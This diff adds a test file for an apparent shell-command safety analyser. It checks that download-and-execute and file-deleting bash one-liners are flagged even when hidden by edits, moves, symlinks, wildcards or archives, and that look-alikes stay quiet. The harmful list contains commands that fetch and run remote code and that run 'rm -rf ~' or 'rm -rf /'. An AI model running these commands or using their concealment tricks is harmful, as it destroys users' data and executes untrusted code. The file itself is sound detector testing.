@@ -1,0 +1,115 @@
+"""Files that a text writes, by whatever name they are reached: changed, copied, linked, unpacked, found by a pattern."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.flow.evaluations import outcomes
+
+HARMFUL = [
+    # changed
+    ("echo ls > a; sed -i 's/ls/rm -rf ~/' a; sh a", "bash", "deleted"),
+    ("echo ls > a; perl -pi -e 's/ls/rm -rf ~/' a; sh a", "bash", "computed"),
+    ("echo ls > a; curl -s https://example.com/p | sponge a; sh a", "bash", "fetched"),
+    ("echo ls > a; curl -s https://example.com/p | some-unknown a; sh a", "bash", "evaluated"),
+    ("echo ls > a; curl -s https://example.com/p > b; sort -o a b; sh a", "bash", "fetched"),
+    ("echo ls > a; curl -s https://example.com/p > b; uniq b a; sh a", "bash", "fetched"),
+    ('echo ls > a; ed a <<< "x"; sh a', "bash", "computed"),
+    # moved with their folder
+    ("curl -s https://example.com/p > d/a; mv d e; sh e/a", "bash", "fetched"),
+    ("curl -s https://example.com/p > d/a; cp -r d e; sh e/a", "bash", "fetched"),
+    ("curl -s https://example.com/p > d/a; cp -r d e/; sh e/d/a", "bash", "fetched"),
+    ("curl -s https://example.com/p > d/a; cp -r d/. e; sh e/a", "bash", "fetched"),
+    ("curl -s https://example.com/p > d/a; cp -r d/* e; sh e/a", "bash", "fetched"),
+    ("curl -s https://example.com/p > a; cp ./* d/; sh d/a", "bash", "fetched"),
+    ("curl -s https://example.com/p > a; mv * d/; sh d/a", "bash", "fetched"),
+    ("curl -s https://example.com/p > d/a; rsync -a d/ e/; sh e/a", "bash", "fetched"),
+    ("curl -s https://example.com/p > q; git mv q r; sh r", "bash", "fetched"),
+    ("curl -s https://example.com/p > d/a; tar c d | tar x -C e; sh e/d/a", "bash", "unpacked"),
+    ("curl -s https://example.com/p > q; tar c q | tar x -C d; sh d/q", "bash", "unpacked"),
+    ("curl -s https://example.com/p > d/s/a; mv d e; sh e/s/a", "bash", "fetched"),
+    ("echo 'rm -rf ~' > d/a; mv d e; sh e/a", "bash", "deleted"),
+    # behind links
+    ("ln -s a b; curl -s https://example.com/p > b; sh a", "bash", "fetched"),
+    ("ln a b; curl -s https://example.com/p > b; sh a", "bash", "fetched"),
+    ("ln -s a b; echo 'rm -rf ~' > a; sh b", "bash", "deleted"),
+    ("ln -s b a; curl -s https://example.com/p > b; sh a", "bash", "fetched"),
+    ("ln -s d e; curl -s https://example.com/p > d/a; sh e/a", "bash", "fetched"),
+    ("ln -s d e; curl -s https://example.com/p > e/a; sh d/a", "bash", "fetched"),
+    ("curl -s https://example.com/p > d/a; ln -s d e; sh e/a", "bash", "fetched"),
+    # under names that are not quite known
+    ('curl -s https://example.com/p > "$f"; sh q', "bash", "evaluated"),
+    ("curl -s https://example.com/p > $RANDOM.sh; sh *.sh", "bash", "fetched"),
+    ("curl -s https://example.com/p > a_$(date +%s).sh; sh a_*.sh", "bash", "fetched"),
+    ("curl -s https://example.com/p > s/a.sh; find s -name '*.sh' -exec sh {} \\;", "bash", "fetched"),
+    ('curl -s https://example.com/p > b; mv b "$q"; sh r', "bash", "evaluated"),
+    ("curl -s https://example.com/p > s/a; run-parts s", "bash", "fetched"),
+    ("curl -s https://example.com/p > s/a; grep -rh . s | sh", "bash", "fetched"),
+    ('curl -s https://example.com/p > "$d/a.sh"; sh "$d/a.sh"', "bash", "fetched"),
+    ('curl -s https://example.com/p > "$d/a.sh"; cd "$d"; sh a.sh', "bash", "fetched"),
+    # from archives, clones and trees
+    ("git clone https://example.com/r.git; sh r/a", "bash", "unpacked"),
+    ("git clone https://example.com/r.git && cd r && make", "bash", "unpacked"),
+    ("curl -sL https://example.com/p | tar xz && ./x/install.sh", "bash", "unpacked"),
+    ("curl -sLo a.zip https://example.com/p; unzip a.zip; sh a/i.sh", "bash", "unpacked"),
+    ("wget -r https://example.com/a; sh example.com/a", "bash", "fetched"),
+    ("scp -r example.com:d .; sh d/a", "bash", "fetched"),
+    ("rsync -a example.com:/d/ d/; sh d/a", "bash", "fetched"),
+    # more
+    ("printf 'rm -rf /' > a; sort a -o b; sh b", "bash", "computed"),
+    ("printf 'rm -rf ~' > b; uniq b c; sh c", "bash", "computed"),
+    ("printf 'rm -rf ~' > b; tar cf t b; tar xf t -C d; sh d/b", "bash", "computed"),
+    ("curl -s https://example.com/p > q; find q -exec bash {} \\;", "bash", "fetched"),
+]
+
+HARMLESS = [
+    # changed
+    ("echo ls > a; sed -i 's/ls/pwd/' a; sh a", "bash"),
+    ("echo ls > a; chmod +x a; sh a", "bash"),
+    ("echo ls > a; cat a; sh a", "bash"),
+    ("echo ls > a; ls -l a; ./a", "bash"),
+    ("printf '#!/bin/sh\\necho hi\\n' > a; chmod +x a; ./a; git add a", "bash"),
+    ("echo ls > a; touch a; sh a", "bash"),
+    ('echo "print(1)" > t.py; python3 t.py', "bash"),
+    ("echo ls > a; shellcheck a; sh a", "bash"),
+    # moved with their folder
+    ("curl -s https://example.com/p > d/a; mv d e; sh e/b", "bash"),
+    ("curl -s https://example.com/p > d/a; cp -r x e; sh e/a", "bash"),
+    ("curl -s https://example.com/p > d/a; mv d e; cat e/a", "bash"),
+    ("echo ls > d/a; mv d e; sh e/a", "bash"),
+    # behind links
+    ("ln -s a b; echo 'ls' > b; sh a", "bash"),
+    ("ln -s a b; curl -s https://example.com/p > c; sh a", "bash"),
+    ("ln -s d e; ls e/a", "bash"),
+    # under names that are not quite known
+    ('curl -s https://example.com/p > "$f.json"; sh build.sh', "bash"),
+    ('curl -s https://example.com/p > "$tmp/x.json"; sh scripts/run.sh', "bash"),
+    ("curl -s https://example.com/p > /tmp/x.sh; sh b.sh", "bash"),
+    ('t=$(mktemp); curl -s https://example.com/p > "$t"; sh build.sh', "bash"),
+    ("curl -s https://example.com/p > out_$(date +%s).json; python3 parse.py out_*.json", "bash"),
+    ('curl -s https://example.com/p > "$f"; jq . "$f"', "bash"),
+    ("for f in a b; do curl -s https://example.com/p/$f > $f.json; done; make", "bash"),
+    ("curl -s https://example.com/p > data.json; ./run.sh", "bash"),
+    ('curl -s https://example.com/p -o "$OUT"; make', "bash"),
+    # from archives, clones and trees
+    ("git clone https://example.com/r.git", "bash"),
+    ("git clone https://example.com/r.git && ls r", "bash"),
+    ("git clone https://example.com/r.git && cat r/README.md", "bash"),
+    ("unzip a.zip; sh a/i.sh", "bash"),
+    ("tar xf a.tar; sh a/i.sh", "bash"),
+    ("git pull; make", "bash"),
+    # more
+    ("tar cf t.tar src; tar xf t.tar -C d; ls d", "bash"),
+]
+
+
+@pytest.mark.parametrize(("text", "dialect", "outcome"), HARMFUL)
+def test_harmful(text: str, dialect: str, outcome: str) -> None:
+    """What is executed or destroyed is seen, whatever way it takes."""
+    assert outcome in outcomes(text, dialect)
+
+
+@pytest.mark.parametrize(("text", "dialect"), HARMLESS)
+def test_harmless(text: str, dialect: str) -> None:
+    """The look-alike that does no harm is quiet."""
+    assert outcomes(text, dialect) == set()
